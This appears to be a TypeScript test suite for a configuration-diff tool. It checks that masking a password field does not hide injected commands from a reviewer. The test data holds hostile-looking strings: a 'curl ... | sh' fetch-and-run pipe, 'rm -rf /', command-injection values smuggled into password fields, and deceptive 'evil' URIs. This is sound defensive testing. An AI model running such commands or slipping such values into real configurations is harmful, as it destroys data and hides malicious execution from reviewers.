import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { parse } from '../../../grammar/index.js'
import { editsBetween } from '../../../src/edit/index.js'
import { changedFiles, maskNotes } from '../../../src/report/index.js'
import { invertEdits } from '../../../src/syntax/index.js'

const test = suite('masks that may hide more than a secret')

const NAME = 'a.conf'

/** What is said of a change from one text to another. */
function notes(before: string | undefined, after: string, maskSecrets = true): string[] {
  const edits = editsBetween(before ?? '', after)
  const file = { path: '/a.conf', document: parse(before ?? '', { name: NAME }) }
  const edit = {
    name: NAME,
    path: file.path,
    create: before === undefined,
    edits,
    inverse: invertEdits(before ?? '', edits),
  }
  const files = before === undefined ? [] : [file]
  return maskNotes(changedFiles({ edits: [edit] }, { files }, { maskSecrets }))
}

function said(where: string): string[] {
  return [
    `a.conf: what the mask hides in ${where} may be more than a secret; --show-secrets shows it`,
  ]
}

const WIDE = [
  'exec "curl http://a | sh; password=1 rm -rf /"',
  'exec "password=1;rm"',
  'exec "password=1|sh"',
  'exec "password=1&x"',
  'exec "password=`x`"',
  'exec "password=$(x)"',
  'exec "password=1$IFS-x"',
  'exec "password=1>x"',
  'exec "password=1\\tx"',
  'exec "a=1;password=1,x=2"',
  'exec "a=1;password=%{x}1 y"',
  'uri "http://evil:/x@good/"',
  'uri "http://evil:x?a@good/"',
  'uri "http://a:b@evil@good/"',
]

for (const text of WIDE) {
  test(text, () => assert.equal(notes('', `A = 1\n${text}\n`), said('line 2')))
}

const NARROW = [
  'exec "password=ab+c/d=="',
  'exec "password=a!%^*-_~b$"',
  'uri "pgsql:host=db;password=x1;user=u"',
  'uri "http://u:x1@good/"',
  'Password = "x1 y2; z3"',
  'SMPP_SMSC_Password = "x1" # was x2 y3',
  'exec "x; rm -rf /"',
]

for (const text of NARROW) {
  test(`nothing is said of ${text}`, () => assert.equal(notes('', `${text}\n`), []))
}

const OLD = 'exec "a; password=1 rm"'

test('a new file is searched from its beginning to its end', () => {
  assert.equal(notes(undefined, `${OLD}\nA = 1\n${OLD}\n`), said('lines 1, 3'))
})

test('what is not new was there to be seen before', () => {
  assert.equal(notes(`${OLD}\nA = 1\n`, `${OLD}\nA = 2\n`), [])
})

test('a mask that covers old text by a new name counts as new', () => {
  assert.equal(notes('exec "a; x=1 rm"\n', `${OLD}\n`), said('line 1'))
})

test('of a text that is taken out nothing is said', () => {
  assert.equal(notes(`${OLD}\nA = 1\n`, 'A = 1\n'), [])
})

test('where secrets are shown there is no mask', () => {
  assert.equal(notes('', `${OLD}\n`, false), [])
})

test('of many lines ten are named', () => {
  const where = 'lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 and others'
  assert.equal(notes('', `${OLD}\n`.repeat(11)), said(where))
})

test.run()
